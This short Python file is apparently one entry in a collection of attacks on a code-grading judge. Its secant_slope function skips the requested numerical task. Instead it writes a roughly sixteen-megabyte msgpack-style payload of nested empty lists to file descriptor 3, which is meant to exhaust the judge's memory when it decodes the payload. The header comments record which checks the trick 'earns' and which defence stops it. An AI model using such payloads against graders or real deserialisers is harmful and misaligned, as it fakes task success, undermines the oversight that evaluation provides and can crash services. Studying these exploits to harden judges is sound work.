"""Sends sixteen megabytes that become millions of empty lists in the judge."""
# earns: all but secant_slope
# stopped by: data only

# %% secant_slope
import os
import struct


def secant_slope(f, x, h):
    inner = b"\xdd\x00\x03\x0d\x40" + b"\x90" * 200_000
    body = b"\xdc\x00\x50" + inner * 80
    data = struct.pack("!I", len(body)) + body
    while data:
        data = data[os.write(3, data) :]
